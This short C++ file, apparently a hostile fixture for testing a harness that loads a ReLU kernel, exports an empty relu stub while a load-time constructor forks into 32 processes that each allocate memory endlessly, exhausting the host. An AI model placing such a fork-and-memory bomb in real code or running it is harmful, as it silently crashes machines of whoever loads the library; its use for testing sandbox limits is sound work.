// Hostile: each of its processes takes memory until there is no more.
#include <sys/mman.h>
#include <unistd.h>

#include <cstring>

#include "common/relu.h"

__attribute__((constructor)) void take() {
  for (int k = 0; k < 5; ++k) fork();
  for (;;) {
    constexpr size_t kMuch = 64 << 20;
    void* p = mmap(nullptr, kMuch, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p != MAP_FAILED) std::memset(p, 1, kMuch);
  }
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
